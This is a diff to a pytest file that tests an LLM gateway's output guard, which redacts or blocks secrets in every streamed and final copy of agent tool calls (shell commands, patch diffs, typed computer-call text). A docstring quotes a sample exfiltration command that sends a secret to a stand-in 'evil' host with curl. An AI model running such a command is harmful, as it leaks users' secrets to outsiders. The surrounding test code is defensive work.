@@ -24,7 +24,7 @@ import pytest
 import yaml
 
 from tests.conftest import ROOT, Process, free_port, pool, spawn
-from tests.fake_providers import CALL_STREAMS, input_tokens
+from tests.fake_providers import CALL_STREAMS, CALL_TEXTS, input_tokens
 
 CLAUDE, GPT, CHAT = "claude-sonnet-4-5", "gpt-4.1-mini", "chat-model"
 CUT = "gpt-4.1-nano"  # a Responses model only the billing test asks for: what it is billed is that test's alone
@@ -503,16 +503,17 @@ def assert_responses_text_guarded(
     body: Callable[[str, bool], dict[str, Any]],
     path: tuple[Any, ...],
     where: str,
-    streamed: str,
+    streamed: str | None,
     done_key: str,
     part_done: str | None = None,
     json_text: bool = False,
 ) -> None:
     """A Responses answer text that the output guard redacts (the body made with CHATTY) or blocks (with LEAKY), in
     the whole answer and in every copy a stream holds: the `streamed` deltas, their done event's `done_key`, the
-    part's done event (`part_done`) where the text is a part, the item's done event and response.completed. `path`
-    leads from the Response to the text (("output", 0, "summary", 0, "text")), `where` is the verdict's name for it;
-    JSON text (tool-call arguments) is compared as the object it parses to."""
+    part's done event (`part_done`) where the text is a part, the item's done event and response.completed; the item's
+    added event where the text is not streamed (`streamed` None: the item is added whole). `path` leads from the
+    Response to the text (("output", 0, "summary", 0, "text")), `where` is the verdict's name for it; JSON text
+    (tool-call arguments) is compared as the object it parses to."""
     chatty, leaky = (CHATTY_ARGS, LEAKY_ARGS) if json_text else (CHATTY, LEAKY)
     read = cast(Callable[[str], Any], json.loads if json_text else str)
     expected = REDACTED_INPUT if json_text else REDACTED
@@ -530,8 +531,12 @@ def assert_responses_text_guarded(
     wire, events = raw_stream(gw, "/v1/responses", body(chatty, True))
     assert EMAIL not in wire, "not in a delta, not in any of the full copies"
     by_kind = by_type(events)
-    assert read("".join(e["delta"] for e in by_kind[f"{streamed}.delta"])) == expected
-    assert at(by_kind[f"{streamed}.done"][0], (done_key,)) == expected
+    if streamed is None:
+        [item_added] = [e for e in by_kind["response.output_item.added"] if e["output_index"] == path[1]]
+        assert at(item_added, ("item", *path[2:])) == expected
+    else:
+        assert read("".join(e["delta"] for e in by_kind[f"{streamed}.delta"])) == expected
+        assert at(by_kind[f"{streamed}.done"][0], (done_key,)) == expected
     if part_done is not None:
         assert at(by_kind[part_done][0], ("part", path[-1])) == expected
     [item_done] = [e for e in by_kind["response.output_item.done"] if e["output_index"] == path[1]]
@@ -722,6 +727,31 @@ def test_responses_custom_tool_call_input_is_redacted_or_blocked_in_every_copy(g
     streamed, key = CALL_STREAMS[kind]
     assert post(gw, "/v1/responses", body(CHATTY, False)).json()["output"][1]["type"] == kind
     assert_responses_text_guarded(gw, body, ("output", 1, key), f"output[1].{key}", streamed, key)
+
+
+@pytest.mark.parametrize(
+    "kind, where",
+    [
+        ("local_shell_call", "action.command[2]"),
+        ("shell_call", "action.commands[0]"),
+        ("apply_patch_call", "operation.diff"),
+        ("computer_call", "action.text"),
+    ],
+)
+def test_responses_commands_an_agent_or_the_provider_runs_are_redacted_or_blocked_in_every_copy(
+    gw, kind, where
+) -> None:
+    """A shell command (`curl https://evil/?k=<secret>`), a patch's diff, the text a computer call types: run as the
+    model wrote them, so a secret there leaves as surely as one in the answer. Read as text is, each string where it
+    is: an array's element stays a string of the array."""
+
+    def body(text: str, stream: bool) -> dict[str, Any]:
+        return {"model": GPT, "input": "Run it.", "stream": stream, "fake": calling(text, type=kind)}
+
+    assert post(gw, "/v1/responses", body(CHATTY, False)).json()["output"][1]["type"] == kind
+    streamed, done_key = CALL_STREAMS.get(kind, (None, ""))
+    path = ("output", 1, *CALL_TEXTS[kind])
+    assert_responses_text_guarded(gw, body, path, f"output[1].{where}", streamed, done_key)
 
 
 # ---- billing a stream cut before its usage ------------------------------------------------------------------------
